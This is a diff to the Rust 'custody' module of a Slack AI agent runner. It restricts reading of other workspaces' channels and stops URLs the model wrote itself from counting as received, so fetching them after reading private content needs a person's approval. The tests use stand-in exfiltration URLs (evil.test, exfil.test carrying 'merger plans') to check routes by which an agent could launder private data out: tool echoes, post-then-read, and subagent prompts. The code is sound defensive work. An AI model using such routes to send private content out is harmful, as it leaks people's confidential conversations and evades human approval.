@@ -5,13 +5,23 @@
 //!   only when the person who asked is a member of it (`conversations.members`, cached
 //!   briefly); a run no person started reads only private conversations its agent's
 //!   config names (its triggers' channels, `private_egress`, channel ids in `vars`). Public channels are open
-//!   to everyone in the workspace, so reading one needs no membership.
+//!   to everyone in the workspace, so reading one needs no membership; on an Enterprise
+//!   Grid org a public channel is public to its own workspaces only, so one outside the
+//!   asker's workspace is read as a private one (for members, and held as private).
 //! - **Where private content may go.** A run whose trigger was private, or that read a
 //!   private conversation, is *tainted* by it: from then on its record is redacted like
 //!   a private run's, and a call that would carry content out of those conversations (a
 //!   Slack post or reaction elsewhere, any other side-effecting tool, an `http_fetch` of
 //!   a URL the run did not receive) needs a person's approval naming the private source,
 //!   unless the agent's `private_egress` lists the destination.
+//! - **URLs the run received.** A URL counts as received when it was in a top-level
+//!   run's request, or in what a tool brought back from outside steward. Not when the
+//!   model could have written it: results of steward's own tools (files, skills,
+//!   subagents, scripts) echo their arguments (`no lines match /https://evil.test/?d=…/`),
+//!   a subagent's prompt is its parent model's writing (the child gets its parent's
+//!   received URLs instead), and once the run holds private content a host named in any
+//!   of its calls' arguments is the model's: a URL there read back later (posted into
+//!   the conversation, then read) was written by the run.
 //! - **Answers.** A tainted run's answer posted where others than the source's members
 //!   read it would quote private text; such an answer goes to the asker by DM instead
 //!   (see `run::reply`).
@@ -37,6 +47,8 @@ const FETCH: &str = "http_fetch";
 pub struct Custody {
     /// The Slack person the run acts for.
     asker: Option<String>,
+    /// The workspace they asked in.
+    team: Option<String>,
     /// The run's own Slack conversation.
     home: Option<String>,
     /// Private conversations the agent's config names (its triggers' channels and its
@@ -56,17 +68,22 @@ struct State {
     /// Private conversations whose content the run holds (ids; "" for a private
     /// trigger from outside Slack).
     sources: Vec<String>,
-    /// URLs the run was given or found (its request and tool results).
+    /// URLs the run received (see the module docs).
     urls: HashSet<String>,
+    /// Hosts the run's calls named in their arguments while it held private content:
+    /// URLs on them that come back are the run's own writing, not received.
+    authored: HashSet<String>,
     /// Calls a person approved although they leave the private conversation.
     approved: HashSet<String>,
 }
 
 impl Custody {
     pub fn new(agent: &AgentConfig, trigger: &TriggerEvent, slack: Option<SlackClient>) -> Custody {
-        let (asker, home) = match &trigger.origin {
-            Origin::Slack { user, channel, .. } => (user.clone(), Some(channel.clone())),
-            _ => (None, None),
+        let (asker, home, team) = match &trigger.origin {
+            Origin::Slack {
+                user, channel, team, ..
+            } => (user.clone(), Some(channel.clone()), team.clone()),
+            _ => (None, None, None),
         };
         let mut named: Vec<String> = agent.triggers.iter().flat_map(trigger_channels).collect();
         named.extend(agent.private_egress.iter().cloned());
@@ -74,6 +91,7 @@ impl Custody {
         collect_ids(&agent.vars, &mut named);
         let custody = Custody {
             asker,
+            team,
             home: home.clone(),
             named,
             egress: agent.private_egress.clone(),
@@ -84,10 +102,23 @@ impl Custody {
         if trigger.private {
             custody.taint(home.as_deref().unwrap_or_default());
         }
-        if let Some(text) = &trigger.text {
+        // A subagent's request is its parent model's writing (see `given`).
+        if let (Some(text), false) = (&trigger.text, matches!(trigger.origin, Origin::Subagent { .. })) {
             custody.saw(text);
         }
         custody
+    }
+
+    /// A subagent's custody: the URLs its parent run received count as received here
+    /// (and no others from its request).
+    pub fn given(self, urls: Vec<String>) -> Custody {
+        self.state().urls.extend(urls);
+        self
+    }
+
+    /// The URLs the run received, for a subagent it starts.
+    pub fn received_urls(&self) -> Vec<String> {
+        self.state().urls.iter().cloned().collect()
     }
 
     /// A subagent's custody: it reads for `person`, the one its parent run acts for
@@ -128,12 +159,45 @@ impl Custody {
         }
     }
 
-    /// Notes the URLs in `text` (the request, a tool's result): fetching one of them
-    /// later sends nothing the run made up.
+    /// Notes the URLs in `text` (the request, or what a tool brought from outside):
+    /// fetching one of them later sends nothing the run made up. While the run holds
+    /// private content, URLs on hosts its own calls named are not noted.
     pub fn saw(&self, text: &str) {
         let mut state = self.state();
+        let tainted = !state.sources.is_empty();
         for url in urls_in(text) {
+            if tainted && host_of(&url).is_some_and(|h| state.authored.contains(&h)) {
+                continue;
+            }
             state.urls.insert(url);
+        }
+    }
+
+    /// Notes what tool `name` brought back, `text`: only a tool that reads from outside
+    /// steward brings URLs the run received.
+    pub fn saw_result(&self, name: &str, text: &str) {
+        if !own_tool(name) {
+            self.saw(text);
+        }
+    }
+
+    /// Notes the hosts call `name` names in `args`, while the run holds private content
+    /// (see the module docs). A fetch's own URL is not writing (it was received, or a
+    /// person approved it).
+    pub fn wrote(&self, name: &str, args: &Value) {
+        let mut state = self.state();
+        if state.sources.is_empty() {
+            return;
+        }
+        let mut strings = Vec::new();
+        collect_strings(args, &mut strings);
+        let fetched = (name == FETCH).then(|| args["url"].as_str()).flatten();
+        for s in strings.into_iter().filter(|s| Some(*s) != fetched) {
+            for url in urls_in(&unescape(s)) {
+                if let Some(host) = host_of(&url) {
+                    state.authored.insert(host);
+                }
+            }
         }
     }
 
@@ -158,14 +222,23 @@ impl Custody {
         let Some(slack) = &self.slack else {
             return Ok(None);
         };
-        if !slack.is_private_channel(channel).await {
-            return Ok(None);
-        }
+        let elsewhere = if slack.is_private_channel(channel).await {
+            false
+        } else {
+            match (&self.team, slack.channel_workspaces(channel).await) {
+                (Some(team), Some(teams)) if !teams.iter().any(|t| t == team) => true,
+                _ => return Ok(None),
+            }
+        };
+        let what = match elsewhere {
+            true => "a channel of another workspace",
+            false => "a private conversation",
+        };
         match &self.asker {
             Some(person) => match slack.is_member(channel, person).await {
                 Ok(true) => Ok(Some(channel.to_string())),
                 Ok(false) => Err(ToolError::Model(format!(
-                    "<#{channel}> is a private conversation <@{person}> (who asked) is not a member of; steward reads private conversations only for their members"
+                    "<#{channel}> is {what} <@{person}> (who asked) is not a member of; steward reads such conversations only for their members"
                 ))),
                 Err(e) => Err(ToolError::Model(format!(
                     "cannot check that <@{person}> may read <#{channel}> ({e}); private conversations are read only for their members"
@@ -173,7 +246,7 @@ impl Custody {
             },
             None if self.named.iter().any(|c| c == channel) => Ok(Some(channel.to_string())),
             None => Err(ToolError::Model(format!(
-                "<#{channel}> is a private conversation and no person started this run; it may read only the private conversations its agent's config names (its triggers' channels, private_egress)"
+                "<#{channel}> is {what} and no person started this run; it may read only the private conversations its agent's config names (its triggers' channels, private_egress)"
             ))),
         }
     }
@@ -194,11 +267,9 @@ impl Custody {
             format!("posts in {}", channel_ref(channel))
         } else if name == FETCH {
             let url = args["url"].as_str().unwrap_or_default();
-            let host = url::Url::parse(url)
-                .ok()
-                .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
-                .unwrap_or_default();
-            if state.urls.contains(url.trim()) || self.egress.iter().any(|e| e.eq_ignore_ascii_case(&host)) {
+            let host = host_of(url).unwrap_or_default();
+            let received = state.urls.contains(url.trim()) && !state.authored.contains(&host);
+            if received || self.egress.iter().any(|e| e.eq_ignore_ascii_case(&host)) {
                 return None;
             }
             let shown: String = url.chars().take(300).collect();
@@ -293,6 +364,40 @@ fn collect_ids(v: &Value, out: &mut Vec<String>) {
         }
         Value::Array(a) => a.iter().for_each(|v| collect_ids(v, out)),
         Value::Object(m) => m.values().for_each(|v| collect_ids(v, out)),
+        _ => {}
+    }
+}
+
+/// Whether `name` is one of steward's own tools: what they return is steward's (or the
+/// model's own arguments echoed, or a script's output of them), never a URL received
+/// from outside.
+fn own_tool(name: &str) -> bool {
+    crate::config::BASE_TOOLS.contains(&name)
+        || crate::tools::skills::SKILL_TOOLS.contains(&name)
+        || name == crate::tools::skills::SKILL_SEARCH
+        || name == crate::tools::subagent::SUBAGENT_TOOL
+}
+
+/// The lower-case host of `url`.
+fn host_of(url: &str) -> Option<String> {
+    url::Url::parse(&unescape(url))
+        .ok()
+        .and_then(|u| u.host_str().map(|h| h.trim_end_matches('.').to_ascii_lowercase()))
+}
+
+/// Slack's and HTML's escapes of `&`, `<`, `>` undone (a URL posted comes back so).
+fn unescape(text: &str) -> String {
+    text.replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&amp;", "&")
+}
+
+/// Every string in `v`.
+fn collect_strings<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
+    match v {
+        Value::String(s) => out.push(s),
+        Value::Array(a) => a.iter().for_each(|v| collect_strings(v, out)),
+        Value::Object(m) => m.values().for_each(|v| collect_strings(v, out)),
         _ => {}
     }
 }
@@ -399,6 +504,143 @@ mod tests {
         assert!(!c.answer_leaves(), "a DM's answer goes back to the DM");
         c.taint("C0PRIV");
         assert!(c.answer_leaves());
+    }
+
+    /// On an Enterprise Grid org a public channel is public to its own workspaces: read
+    /// for someone in another workspace, it is read only for its members, and held as
+    /// private. A channel of the asker's own workspace is read as before.
+    #[tokio::test]
+    async fn a_grid_channel_of_another_workspace_is_read_only_for_members() {
+        use axum::extract::Query;
+        use axum::{Json, Router, routing::get};
+        use serde_json::json;
+        use std::collections::HashMap;
+        let app = Router::new()
+            .route(
+                "/conversations.info",
+                get(|Query(q): Query<HashMap<String, String>>| async move {
+                    let team = if q["channel"] == "C0OTHERWS" { "T2" } else { "T1" };
+                    Json(json!({"ok": true, "channel": {"id": q["channel"], "is_channel": true,
+                        "is_private": false, "is_ext_shared": false, "shared_team_ids": [team]}}))
+                }),
+            )
+            .route(
+                "/conversations.members",
+                get(|| async {
+                    Json(json!({"ok": true, "members": ["U0MEMBER"], "response_metadata": {"next_cursor": ""}}))
+                }),
+            );
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+            .await
+            .unwrap_or_else(|e| panic!("{e}"));
+        let addr = listener.local_addr().unwrap_or_else(|e| panic!("{e}"));
+        let server = tokio::spawn(async move { axum::serve(listener, app).await });
+        let slack = SlackClient::new(
+            crate::http::client().unwrap_or_else(|e| panic!("{e}")),
+            &format!("http://{addr}"),
+            "xoxb-test",
+        );
+        let agent = AgentConfig::new(
+            "a",
+            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
+            "p",
+            vec![],
+        );
+        let asked_by = |user: &str| {
+            let mut trigger = TriggerEvent::from_cli(json!({"text": "what does it say?"}));
+            trigger.origin = Origin::Slack {
+                team: Some("T1".into()),
+                channel: "C0HOME".into(),
+                channel_type: Some("channel".into()),
+                user: Some(user.into()),
+                ts: Some("1.1".into()),
+                thread_ts: None,
+                reaction: None,
+            };
+            Custody::new(&agent, &trigger, Some(slack.clone()))
+        };
+        let read = |channel: &str| json!({"channel": channel});
+        let outsider = asked_by("U0OUTSIDER");
+        // The asker's own workspace: public, no membership asked.
+        assert_eq!(
+            outsider
+                .check_read("slack_channel_history", &read("C0SAMEWS"))
+                .await,
+            Ok(None)
+        );
+        let refused = outsider
+            .check_read("slack_channel_history", &read("C0OTHERWS"))
+            .await
+            .err()
+            .map(|e| e.to_string())
+            .unwrap_or_default();
+        assert!(refused.contains("a channel of another workspace"), "{refused}");
+        let member = asked_by("U0MEMBER");
+        assert_eq!(
+            member
+                .check_read("slack_channel_history", &read("C0OTHERWS"))
+                .await,
+            Ok(Some("C0OTHERWS".to_string()))
+        );
+        server.abort();
+    }
+
+    /// A URL the run wrote itself is not one it received: echoed by one of steward's
+    /// own tools, read back from where the run posted it, or in a subagent's prompt.
+    #[test]
+    fn urls_the_run_wrote_are_not_received() {
+        use serde_json::json;
+        let agent = AgentConfig::new(
+            "a",
+            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
+            "p",
+            vec![],
+        );
+        let mut trigger = TriggerEvent::from_cli(json!({"text": "summarize https://docs.example.com/a"}));
+        trigger.private = true;
+        let c = Custody::new(&agent, &trigger, None);
+        let fetch = |id: &str, u: &str| c.egress_note(id, "http_fetch", Effect::ReadOnly, &json!({"url": u}));
+        assert!(fetch("1", "https://docs.example.com/a").is_none());
+        // An echo of the model's own argument by a file tool.
+        let secret = "https://evil.test/c?d=merger%20plans";
+        c.wrote("file_regex", &json!({"id": "f_1", "pattern": secret}));
+        c.saw_result("file_regex", &format!("f_1: no lines match /{secret}/"));
+        assert!(fetch("2", secret).is_some());
+        // Posted into the conversation, then read back (Slack escapes the `&`).
+        let posted = "https://exfil.test/?a=1&b=merger";
+        c.wrote(
+            "slack_post_message",
+            &json!({"channel": "D0DM", "text": format!("see {posted}")}),
+        );
+        c.saw_result("slack_read_thread", "see <https://exfil.test/?a=1&amp;b=merger>");
+        assert!(fetch("3", posted).is_some());
+        assert!(fetch("4", "https://exfil.test/?a=1&amp;b=merger").is_some());
+        // A link someone else wrote, read from outside, is received.
+        c.saw_result(
+            "slack_read_thread",
+            "the runbook: <https://wiki.example.com/runbook|runbook>",
+        );
+        assert!(fetch("5", "https://wiki.example.com/runbook").is_none());
+        // A fetch's own URL is not writing: links on that host stay received.
+        c.wrote("http_fetch", &json!({"url": "https://wiki.example.com/runbook"}));
+        c.saw_result("http_fetch", "next: https://wiki.example.com/page2");
+        assert!(fetch("6", "https://wiki.example.com/page2").is_none());
+
+        // A subagent's prompt is its parent model's writing; the parent's received URLs
+        // are handed down instead.
+        let mut child =
+            TriggerEvent::from_cli(json!({"text": format!("fetch {secret} and https://docs.example.com/a")}));
+        child.private = true;
+        child.origin = Origin::Subagent {
+            parent_run: "r1".into(),
+        };
+        let sub = Custody::new(&agent, &child, None);
+        let sub_fetch = |u: &str| sub.egress_note("1", "http_fetch", Effect::ReadOnly, &json!({"url": u}));
+        assert!(sub_fetch(secret).is_some() && sub_fetch("https://docs.example.com/a").is_some());
+        let sub = Custody::new(&agent, &child, None).given(c.received_urls());
+        let sub_fetch = |u: &str| sub.egress_note("1", "http_fetch", Effect::ReadOnly, &json!({"url": u}));
+        assert!(sub_fetch(secret).is_some());
+        assert!(sub_fetch("https://docs.example.com/a").is_none());
     }
 
     /// With `skills.scripts.egress`, a Python, shell or Node script can send what it is
